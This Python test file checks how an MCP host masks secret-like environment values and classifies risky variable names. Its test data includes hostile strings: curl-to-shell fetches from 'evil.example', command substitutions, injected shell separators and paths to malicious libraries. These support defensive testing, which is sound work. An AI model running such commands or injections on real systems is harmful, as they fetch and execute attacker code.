"""Tests that values in a server's entry that look like secrets are masked, and the rest stays readable."""

import pytest

from mcphost.config.approval_digest import server_digest
from mcphost.config.approval_text import masked_environment
from mcphost.config.risky_variables import classify_variable
from mcphost.config.schema import ServerConfig, Source
from mcphost.config.secret_masking import fingerprint, mask_secrets


@pytest.mark.parametrize(
    ("name", "value", "shown"),
    [
        ("API_TOKEN", "hunter2", "[hidden]"),
        ("PASSWORD", "abc", "[hidden]"),
        ("Authorization", "Bearer abcdefgh", "Bearer [hidden]"),
        ("Authorization", "Bearer ${keyring:work}", "Bearer ${keyring:work}"),
        ("API_KEY", "prefix-${env:KEY}-suffix", "[hidden]${env:KEY}[hidden]"),
        ("API_KEY", "${env:KEY:-fallback-1}", "${env:KEY:-[hidden]}"),
        ("API_KEY", "${KEY:-}", "${KEY:-}"),
        ("API_KEY", "a${KEY:-b}c${input:d}", "[hidden]${KEY:-[hidden]}[hidden]${input:d}"),
        ("MODE", "${MODE:-fast}", "${MODE:-fast}"),
        ("SETTING", "sk-abcdefghijklmnopqrstuvwx", "[hidden]"),
        ("SETTING", "sk-abcdefghijklmnopqrstuvwx ${env:A}", "[hidden] ${env:A}"),
        ("SETTING", "q9ZrT4kLm2XvB7nPw3HsYd8F", "[hidden]"),
        ("SETTING", "0123456789abcdef0123456789abcdef", "[hidden]"),
        ("DATABASE", "postgres://me:hunter2@db.example/main", "postgres://[hidden]@db.example/main"),
        ("SIGNING_KEY", "/k9ZrT4kLm2XvB7nPw3HsYd8F+aa==", "[hidden]"),
    ],
)
def test_secret_like_values_are_masked(name: str, value: str, shown: str) -> None:
    assert mask_secrets(name, value) == shown


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("MODE", "production"),
        ("MAX_TOKENS", "4096000"),
        ("USE_TOKEN", "false"),
        ("API_KEY", ""),
        ("TOKEN_FILE", "/home/me/.config/service/token.json"),
        ("TOKEN_ENDPOINT", "https://login.example/oauth/token"),
        ("FOLDER", "/home/me/projects/some-rather-long-folder-name/with-parts/and-more"),
        ("CLASS", "com.example.application.services.implementation.Main"),
        ("REGION", "europe-west-production-cluster"),
        ("PYTHONPATH", "q9ZrT4kLm2XvB7nPw3HsYd8F"),
        ("GIT_SSH_COMMAND", "ssh -o ProxyCommand='sh -c evil' password=abcdefgh"),
        ("VERSION", "1.2.3-rc.4"),
    ],
)
def test_everything_else_is_shown_as_it_is(name: str, value: str) -> None:
    assert mask_secrets(name, value) == value


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("BASH_FUNC_ls%%", "() { curl -s https://evil.example/s | sh; }"),
        ("API_TOKEN", "x; curl evil.example | sh"),
        ("API_TOKEN", "$(touch /tmp/owned)"),
        ("SECRET", "a`id`b"),
        ("SECRET", "first\nsecond"),
        ("PASSWORD", "x&calc"),
        ("APP_KEY", "/clone/k9ZrT4kLm2XvB7nPw3HsYd8F/evil.so"),
        ("APP_KEY", "C:\\clone\\evil.dll"),
        ("SETTING", "--require=./q9ZrT4kLm2XvB7nPw3HsYd8F.js"),
        ("SETTING", "https://q9ZrT4kLm2XvB7nPw3HsYd8F.evil.example"),
        ("PRIVATE_KEY", "-----BEGIN PRIVATE KEY----- ; touch /tmp/owned"),
        ("AUTH", "Bearer x;y"),
    ],
)
def test_a_projects_variable_that_can_be_code_is_shown_in_full(name: str, value: str) -> None:
    assert mask_secrets(name, value, is_foreign=True) == value


@pytest.mark.parametrize(
    ("name", "value", "shown"),
    [
        ("API_TOKEN", "hunter2", "[hidden]"),
        ("AUTH_TOKEN", "Bearer abcdefgh", "Bearer [hidden]"),
        ("SETTING", "q9ZrT4kLm2XvB7nPw3HsYd8F", "[hidden]"),
        ("API_KEY", "sk-abcdefghijklmnopqrstuvwx", "[hidden]"),
        ("DATABASE", "postgres://me:hunter2@db.example/main", "postgres://[hidden]@db.example/main"),
        ("X", "https://a:b@c/;https://d:$(id)@e", "https://[hidden]@c/;https://d:$(id)@e"),
    ],
)
def test_a_projects_one_word_secret_is_masked(name: str, value: str, shown: str) -> None:
    assert mask_secrets(name, value, is_foreign=True) == shown


def test_a_value_that_can_be_code_is_shown_and_bound_where_a_project_wrote_it() -> None:
    def server(value: str, source: Source) -> ServerConfig:
        return ServerConfig(name="x", command="run", env={"API_TOKEN": value}, source=source)

    assert masked_environment(server("a b", "project")) == {"API_TOKEN": "a b"}
    assert masked_environment(server("a b", "flag")) == {"API_TOKEN": "a b"}
    assert masked_environment(server("a b", "user")) == {"API_TOKEN": "[hidden]"}
    assert server_digest(server("a b", "project")) != server_digest(server("a c", "project"))


@pytest.mark.parametrize(
    ("name", "risk"),
    [
        ("BASH_FUNC_ls%%", "code"), ("GIT_SSH_VARIANT", "code"), ("EDITOR", "code"), ("PAGER", "code"),
        ("BROWSER", "code"), ("SHELL", "code"), ("FOO_COMMAND", "code"), ("foo_cmd", "code"), ("SUDO_ASKPASS", "code"),
        ("GIT_CREDENTIAL_HELPER", "code"), ("AWS_CONFIG_FILE", "code"), ("AWS_SHARED_CREDENTIALS_FILE", "code"),
        ("ANSIBLE_LIBRARY", "code"), ("CLOUDSDK_PYTHON", "code"), ("SVN_SSH", "code"), ("RSYNC_RSH", "code"),
        ("ESBUILD_BINARY_PATH", "code"), ("NAPI_RS_NATIVE_LIBRARY_PATH", "code"), ("PYENV_ROOT", "code"),
        ("VIMINIT", "code"), ("PLAYWRIGHT_BROWSERS_PATH", "code"), ("PUPPETEER_EXECUTABLE_PATH", "code"),
        ("LD_PRELOAD", "code"), ("MALLOC_PRELOAD", "code"),
        ("JRUBY_OPTS", "code"), ("SBT_OPTS", "code"), ("NODE_OPTIONS", "code"), ("FOO_OPTIONS", "code"),
        ("SSH_AUTH_SOCK", "code"), ("HTTPS_PROXY", "network"), ("npm_config_https_proxy", "packages"),
        ("GIT_SSL_CAINFO", "network"), ("PGSSLROOTCERT", "network"), ("FOO_CA_BUNDLE", "network"),
        ("NUGET_PLUGIN_PATHS", "code"), ("NUGET_PACKAGES", "packages"), ("DOTNET_SHARED_STORE", "code"),
        ("DOTNET_GCName", "code"), ("COMPlus_AltJitName", "code"), ("MSBuildSDKsPath", "code"), ("GOTOOLCHAIN", "code"),
        ("CONTAINERS_CONF", "code"), ("GIO_MODULE_DIR", "code"), ("NODE_GYP_FORCE_PYTHON", "code"),
        ("NODE_REDIRECT_WARNINGS", "code"), ("PSModulePath", "code"), ("npm_execpath", "code"), ("CFLAGS", "code"),
        ("DOCKER_CERT_PATH", "packages"), ("DOCKER_CONTENT_TRUST", "packages"), ("DENO_CERT", "network"),
        ("TMP", "settings"), ("PGSERVICEFILE", "settings"), ("NETRC", "settings"), ("DOTNET_CLI_HOME", "settings"),
        ("DOTNET_CLI_TELEMETRY_OPTOUT", None), ("DOTNET_NOLOGO", None),
        ("FOO_CONFIG_FILE", "settings"), ("LOG_LEVEL", None), ("PORT", None), ("DATABASE_URL", None),
        ("API_TOKEN", None), ("PYTHONUNBUFFERED", None),
    ],
)  # fmt: skip
def test_a_variable_is_known_by_how_it_begins_or_ends(name: str, risk: str | None) -> None:
    assert classify_variable(name) == risk


@pytest.mark.parametrize(
    ("name", "value", "shown"),
    [
        ("HTTPS_PROXY", "http://q9ZrT4kLm2XvB7nPw3HsYd8F.example:8080", None),
        ("HTTPS_PROXY", "http://me:hunter2@proxy.example", "http://[hidden]@proxy.example"),
        ("NPM_CONFIG_AUTH_TOKEN", "hunter2", "[hidden]"),
        ("FOO_ASKPASS", "sk-abcdefghijklmnopqrstuvwx", None),
    ],
)
def test_only_secret_like_parts_of_a_risky_variable_are_masked(name: str, value: str, shown: str | None) -> None:
    assert mask_secrets(name, value) == (shown or value)


def test_a_fingerprint_identifies_a_name_and_a_value() -> None:
    marks = {fingerprint(name, value) for name in ("A", "B") for value in ("one", "two", "\ud800")}
    assert len(marks) == 6
    assert fingerprint("A", "one") == fingerprint("A", "one")


def test_many_hidden_values_share_the_work_of_one() -> None:
    assert fingerprint("A", "one", 100_000) != fingerprint("A", "one")
    assert len(fingerprint("A", "one", 100_000)) == 64
